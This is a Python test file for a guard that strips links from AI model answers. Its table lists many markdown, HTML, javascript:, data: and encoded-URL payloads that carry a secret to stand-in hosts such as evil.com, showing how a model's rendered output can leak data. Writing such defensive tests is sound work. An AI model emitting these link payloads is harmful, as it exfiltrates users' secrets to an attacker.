"""No address and nothing that could become one leaves in an answer."""

from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from douane.model.answer_rules import AllowedLink
from douane.shield.guard.allowed import allowed_at
from douane.shield.guard.links import HELD_AT_MOST, REMOVED, Links

HELP = "https://docs.bank.example/help"
SECRET = "ZEBRA7731"

# What a model wrote -> what a reader gets.
WRITTEN = {
    f"[more](https://evil.example.com/?q={SECRET}) now": f"[more] ({REMOVED}) now",
    f"![](http://evil.example.com/{SECRET}.png)": f"![] ({REMOVED})",
    f"[a][b]\n\n[b]: https://evil.com/{SECRET}": f"[a] [b]\n\n[b] : {REMOVED}",
    f"[^1]\n\n[^1]: https://evil.com/{SECRET}": f"[^1]\n\n[^1] : {REMOVED}",
    f"<https://evil.com/{SECRET}>": f"< {REMOVED}>",
    f'<img src="//evil.com/{SECRET}">': f'< img src="{REMOVED}">',
    f"<style>a{{background:url(//evil.com/{SECRET})}}": f"< style>a{{background:url({REMOVED})}}",
    f"see www.evil.com/{SECRET} now": f"see {REMOVED} now",
    f"see evil.com/{SECRET}, please": f"see evil{REMOVED}, please",
    f"{SECRET}.evil.com": f"{SECRET}[.]evil[.]com",
    f"data:text/html,{SECRET}": REMOVED,
    f"javascript:fetch('{SECRET}')": f"{REMOVED}')",
    f"mailto:x@evil.com?body={SECRET}": REMOVED,
    f"ms-word:ofe|u|https://evil.com/{SECRET}": f"{REMOVED}|u|{REMOVED}",
    f"foo+bar://{SECRET}": f"foo+bar{REMOVED}",
    f"HTTPS:evil.com/{SECRET}": REMOVED,
    f"https:\\/\\/evil.com\\/{SECRET}": REMOVED,
    f"&#104;ttps://evil.com/{SECRET}": f"& #104;ttps{REMOVED}",
    f"https&colon;//evil.com/{SECRET}": f"https& colon;{REMOVED}",
    "&lt;img src=x&gt;": "& lt;img src=x& gt;",
    f"evil\u3002com/{SECRET}": f"evil{REMOVED}",
    "https://" + "a" * 5000 + " end": f"{REMOVED} end",
}
UNTOUCHED = [
    "e.g. z.B. d.h. S.p.A. S.r.l. a.m. 3.14 10:30 1.500,00 EUR 12.05.2026",
    "Rate: 3, und/oder, km/h, 24/7, A/B; Note: x",
    "anna.meyer@bank.de, AT&T, R&D, &amp; &uuml; &nbsp;",
    "if a < b: x[0] = y(1)  # really",
    "// a comment, and a path /usr/bin and a\\b",
    f"Read {HELP}. Then call.",
]


def guarded(text: str) -> str:
    return Links(frozenset({HELP})).feed(text, last=True)


@pytest.mark.parametrize(("text", "expected"), WRITTEN.items())
def test_what_could_carry_data_out_is_plain_text(text: str, expected: str) -> None:
    assert guarded(text) == expected


@pytest.mark.parametrize("text", UNTOUCHED)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("more", ["?q=1", "/x", "#x", "x", "%20"])
def test_an_allowed_address_with_anything_behind_it_is_not_that_address(more: str) -> None:
    assert guarded(HELP + more) == REMOVED


def test_an_allowed_address_ends_with_its_day() -> None:
    link = AllowedLink(HELP, date(2026, 3, 1))
    last_ms, next_ms = 1_772_409_599_999, 1_772_409_600_000

    assert allowed_at([link], last_ms) == {HELP}
    assert allowed_at([link], next_ms) == frozenset()


fragments = st.sampled_from(
    ["https://", "www.", ".com", "evil.com/", "&lt;", "&#x", "javascript:", "](", "]:", "][", "//",
     "http", "data:", "<", "[", "\\", "\\/", "a", " ", "\n", '"', ".", ":", "x" * 90, HELP, "@"]
)  # fmt: skip
texts = st.lists(st.one_of(fragments, st.text(max_size=4)), max_size=30).map("".join)


def in_cuts(text: str, cuts: list[int]) -> str:
    links, start, out = Links(frozenset({HELP})), 0, []
    for length in cuts:
        out.append(links.feed(text[start : start + length]))
        start += length
    return "".join([*out, links.feed(text[start:], last=True)])


@settings(max_examples=600)
@given(texts, st.lists(st.integers(0, 7), max_size=60))
def test_every_cut_gives_the_same_answer(text: str, cuts: list[int]) -> None:
    assert in_cuts(text, cuts) == guarded(text)


RENDERERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("gfm-like"),
    MarkdownIt("default", {"html": True, "linkify": True}).enable(["linkify"]),
)


@settings(max_examples=300)
@given(texts)
def test_no_renderer_makes_a_link_of_what_is_left(text: str) -> None:
    safe = guarded(text.replace(HELP, "").replace("@", ""))

    for renderer in RENDERERS:
        page = renderer.render(safe)
        assert "href" not in page.replace("&quot;", "")
        assert "<img" not in page


@given(texts)
def test_no_more_is_held_back_than_is_said(text: str) -> None:
    links = Links()
    given_out = links.feed(text)
    rest = links.feed("", last=True)

    assert len(rest) <= HELD_AT_MOST + len(REMOVED) + 4
    assert given_out + rest == Links().feed(text, last=True)
